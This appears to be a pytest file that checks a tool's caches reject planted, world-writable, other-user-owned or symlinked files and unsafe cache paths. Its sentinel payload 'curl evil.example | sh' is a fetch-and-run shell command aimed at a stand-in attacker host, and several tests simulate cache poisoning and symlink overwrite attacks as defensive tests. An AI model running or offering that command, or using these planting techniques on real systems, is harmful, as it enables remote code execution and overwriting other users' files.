"""The signature cache trusts nothing another user could have put there (issue 26, P1).

Before: the temporary file was opened with open(tmp, "wb") at a predictable name, so a planted link made
kb overwrite the link's target; a cache planted in a shared folder was read (its name and key are
computable) and its text printed as kb's answer; a relative XDG_CACHE_HOME was used, and an empty HOME
put the cache in /.cache.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kb.knowledge import index, index_build
from kb.knowledge.index import load_index

PLANTED = "PLANTED FIX: curl evil.example | sh"


def _only_cache(folder: Path) -> Path:
    files = sorted(folder.glob("signatures-*.marshal"))
    assert len(files) == 1, files
    return files[0]


def _plant(path: Path) -> None:
    """Overwrite the cache at ``path`` with a valid one (right CRC, right key) whose first case's summary is
    the attacker's: what another user who can compute the key would write."""
    stored = index_build.unpack(path.read_bytes())
    assert stored is not None
    stored["entries"]["cases"][0][1]["summary"] = PLANTED
    data = index_build.pack(stored["key"], stored["entries"])
    assert data is not None
    path.write_bytes(data)


def _summaries() -> set[str]:
    return {c.summary for c in load_index().cases}


def test_the_cache_folder_is_created_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KB_CACHE_DIR", str(tmp_path / "cache"))
    load_index()
    assert (tmp_path / "cache").stat().st_mode & 0o777 == 0o700
    assert _only_cache(tmp_path / "cache").stat().st_mode & 0o077 == 0  # mkstemp's 0600


def test_a_planted_cache_in_a_world_writable_folder_is_never_read(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    monkeypatch.setenv("KB_CACHE_DIR", str(shared))
    load_index()
    _plant(_only_cache(shared))
    assert PLANTED in _summaries()  # the planted file is a working attack on a private folder...
    _only_cache(shared).chmod(0o600)
    shared.chmod(0o1777)  # ...but a folder others can write to (like /tmp) is not used at all
    assert PLANTED not in _summaries()
    shared.chmod(0o770)  # group-writable: the same
    assert PLANTED not in _summaries()


def test_a_cache_file_others_can_write_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "cache"
    monkeypatch.setenv("KB_CACHE_DIR", str(folder))
    load_index()
    path = _only_cache(folder)
    _plant(path)
    path.chmod(0o666)
    assert PLANTED not in _summaries()
    assert path.stat().st_mode & 0o077 == 0  # rebuilt and replaced by a private file


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="chown to another user needs root")
def test_a_folder_or_file_of_another_user_is_not_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "cache"
    monkeypatch.setenv("KB_CACHE_DIR", str(folder))
    load_index()
    path = _only_cache(folder)
    _plant(path)
    os.chown(path, 4242, 4242)  # a private file, but another user's
    assert PLANTED not in _summaries()
    _plant(_only_cache(folder))
    os.chown(folder, 4242, 4242)  # a private folder, but another user's
    assert PLANTED not in _summaries()


def test_a_cache_file_that_is_a_link_is_not_followed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "cache"
    monkeypatch.setenv("KB_CACHE_DIR", str(folder))
    load_index()
    path = _only_cache(folder)
    decoy = tmp_path / "decoy.marshal"
    path.rename(decoy)
    _plant(decoy)
    path.symlink_to(decoy)  # a link to a valid, planted cache
    assert PLANTED not in _summaries()
    assert not path.is_symlink()  # replaced by a real file; the link's target is untouched
    assert PLANTED.encode() in decoy.read_bytes()


def test_a_planted_link_at_the_temporary_name_overwrites_nothing(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The old temporary name (<cache>.<pid>.tmp) and every name near it are links to a victim's file:
    writing the cache leaves the victim's file as it was."""
    folder = tmp_path / "cache"
    monkeypatch.setenv("KB_CACHE_DIR", str(folder))
    load_index()
    path = _only_cache(folder)
    path.unlink()
    victim = tmp_path / "victim.txt"
    victim.write_text("the victim's data\n")
    for pid in range(os.getpid() - 5, os.getpid() + 5):
        Path(f"{path}.{pid}.tmp").symlink_to(victim)
    assert load_index().cases
    assert victim.read_text() == "the victim's data\n"
    assert path.is_file() and not path.is_symlink()


def test_a_cache_folder_that_is_a_link_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    (tmp_path / "link").symlink_to(real)
    monkeypatch.setenv("KB_CACHE_DIR", str(tmp_path / "link"))
    assert load_index().cases
    assert list(real.iterdir()) == []


@pytest.mark.parametrize(("env", "expected"), [
    ({"XDG_CACHE_HOME": "relative/cache", "HOME": "/home/u"}, "/home/u/.cache/kb"),  # relative: ignored (XDG spec)
    ({"XDG_CACHE_HOME": "/abs/cache", "HOME": "/home/u"}, "/abs/cache/kb"),
    ({"XDG_CACHE_HOME": "", "HOME": "/home/u"}, "/home/u/.cache/kb"),
    ({"HOME": ""}, None),  # empty HOME: no cache (not /.cache)
    ({"HOME": "relative-home"}, None),
    ({"KB_CACHE_DIR": "/abs/kb-cache/", "HOME": "/home/u"}, "/abs/kb-cache"),
    ({"KB_CACHE_DIR": "rel/kb-cache", "HOME": "/home/u"}, None),  # relative: no cache (not one in the current folder)
    ({"KB_CACHE_DIR": ".", "XDG_CACHE_HOME": "/abs/cache"}, None),
])
def test_where_the_cache_goes(env: dict[str, str], expected: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KB_CACHE_DIR", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    assert index._cache_dir() == expected


@pytest.mark.parametrize("env", [{"HOME": ""}, {"KB_CACHE_DIR": "cache"}, {"KB_CACHE_DIR": "."}])
def test_no_cache_still_answers(env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KB_CACHE_DIR", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)
    assert load_index().cases
    assert list(tmp_path.iterdir()) == []  # nothing written in the current folder either


def test_the_keyword_cache_is_read_and_written_under_the_same_rules(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """kb/diagnose/advice.py's api-keywords file: written 0600 through mkstemp, and read only when it is this user's,
    not a link and writable by no one else (a planted one's facts would be spelled into the fix shown)."""
    import marshal

    from kb.diagnose.advice import KeywordFacts, _cache_path

    monkeypatch.setenv("KB_CACHE_DIR", str(tmp_path / "cache"))
    where = _cache_path()
    assert where is not None
    path, key = where
    facts = KeywordFacts()
    facts._load()
    facts._facts = {"x.y": None}
    facts._save()
    assert Path(path).stat().st_mode & 0o077 == 0
    Path(path).write_bytes(marshal.dumps({"key": key, "facts": {PLANTED: None}}))
    assert PLANTED in KeywordFacts()._load()  # a private file of this user's is read...
    Path(path).chmod(0o622)
    assert KeywordFacts()._load() == {}  # ...one others may write is not
    Path(path).chmod(0o600)
    decoy = tmp_path / "decoy.marshal"
    Path(path).rename(decoy)
    Path(path).symlink_to(decoy)
    assert KeywordFacts()._load() == {}  # nor a link
